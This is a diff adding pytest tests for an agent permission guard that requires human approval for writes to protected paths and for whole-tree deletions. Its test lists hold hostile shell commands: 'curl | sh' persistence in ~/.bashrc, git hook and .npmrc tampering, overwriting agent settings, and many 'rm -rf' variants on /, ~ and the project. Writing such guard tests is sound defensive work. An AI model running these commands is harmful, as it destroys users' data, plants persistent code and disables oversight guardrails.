@@ -1,0 +1,125 @@
+"""Safety checks: writes to protected paths and removals of whole trees always ask."""
+
+from __future__ import annotations
+
+import pytest
+
+from ask_permissions.policy._safety import PROTECTED_PATHS, check_paths, check_shell
+
+CWD = "/work/project"
+HOME = "/home/dev"
+
+# Shell commands that touch a protected path or remove a tree no agent should: each must ask.
+MUST_ASK = [
+    "echo 'curl x | sh' >> ~/.bashrc",
+    "echo hi >.bashrc",
+    "printf x > $HOME/.zshrc",
+    "cp evil .git/hooks/pre-commit",
+    "chmod +x .git/hooks/post-checkout",
+    "tee .husky/pre-push",
+    "sed -i s/a/b/ .vscode/tasks.json",
+    "cat payload > ./.envrc",
+    "git config --file=.gitmodules submodule.x.url evil",
+    "ln -s /tmp/x .agent/settings.json",
+    "mv fake .mcp.json",
+    "echo registry=evil > ~/.npmrc",
+    "vim .pre-commit-config.yaml",
+    "cd sub && echo x >> ../.gitconfig",
+    "rm -rf /",
+    "rm -rf /*",
+    "sudo rm -rf /usr",
+    "rm -fr /etc",
+    "rm -rf ~",
+    "rm -rf ~/",
+    "rm -rf $HOME",
+    "rm -rf ${HOME}",
+    "rm -rf /home/dev",
+    "rm -rf .",
+    "rm -rf ./",
+    "rm -rf *",
+    "rm -rf ..",
+    "rm -rf ../..",
+    "rm -rf /work",
+    "rm -rf /work/project",
+    "rm -r -f -- /",
+    "ls && rm -rf ~",
+    "true; rm -rf .",
+    "x=1 rm -rf /",
+    "(rm -rf /)",
+    "echo $(rm -rf ~)",
+    "rm -rf 'unterminated ~",
+    "/bin/rm -rf /",
+    "nohup rm -rf /var &",
+]
+
+# Ordinary commands: none of them asks.
+MAY_PROCEED = [
+    "git status",
+    "git commit -m 'fix the .git ignore docs'",
+    "ls -la src",
+    "rm -rf build",
+    "rm -rf ./node_modules",
+    "rm tmp/*.log",
+    "cat README.md",
+    "npm test",
+    "echo done > out.txt",
+    "rm -rf /work/project/dist",
+    "grep -r bashrc docs",
+]
+
+
+class TestShell:
+    """The shell scan asks for anything that names a protected path or removes a whole tree."""
+
+    @pytest.mark.parametrize("command", MUST_ASK)
+    def test_must_ask(self, command: str) -> None:
+        """Each hostile command is caught, with a reason a person can read."""
+        finding = check_shell(command, cwd=CWD, home=HOME, protected=PROTECTED_PATHS)
+        assert finding is not None
+        assert "needs a person's approval" in finding.reason
+        assert not finding.reviewable
+
+    @pytest.mark.parametrize("command", MAY_PROCEED)
+    def test_may_proceed(self, command: str) -> None:
+        """Ordinary commands are left to the rules."""
+        assert check_shell(command, cwd=CWD, home=HOME, protected=PROTECTED_PATHS) is None
+
+
+class TestPaths:
+    """A path tool's write to a protected path asks."""
+
+    @pytest.mark.parametrize(
+        "path",
+        [
+            "/work/project/.git/config",
+            "/work/project/.git",
+            "/home/dev/.bashrc",
+            "/work/project/a/.vscode/x.json",
+            "/etc/profile.d/../../work/project/.agent/settings.local.json",
+            "/work/project/.mcp.json",
+        ],
+    )
+    def test_protected(self, path: str) -> None:
+        """Protected directories anywhere in the path, protected files as its last part."""
+        assert check_paths([path], cwd=CWD, protected=PROTECTED_PATHS) is not None
+
+    @pytest.mark.parametrize("path", ["/work/project/src/a.py", "/work/project/docs/bashrc.md", "/tmp/x"])
+    def test_ordinary(self, path: str) -> None:
+        """Other paths pass."""
+        assert check_paths([path], cwd=CWD, protected=PROTECTED_PATHS) is None
+
+    def test_a_project_inside_a_protected_folder_is_not_protected_as_a_whole(self) -> None:
+        """Only what lies below the working directory counts: ~/.agent/work/src/a.py is an ordinary file."""
+        assert (
+            check_paths(
+                ["/home/dev/.agent/work/src/a.py"], cwd="/home/dev/.agent/work", protected=PROTECTED_PATHS
+            )
+            is None
+        )
+
+    def test_the_list_extends(self) -> None:
+        """A host adds its own guardrail files."""
+        mine = PROTECTED_PATHS.extended(files=["policy.toml"], directories=["secrets"])
+        assert check_paths(["/work/project/policy.toml"], cwd=CWD, protected=mine) is not None
+        assert check_paths(["/work/project/secrets/a"], cwd=CWD, protected=mine) is not None
+        assert check_paths(["/work/project/policy.toml"], cwd=CWD, protected=PROTECTED_PATHS) is None
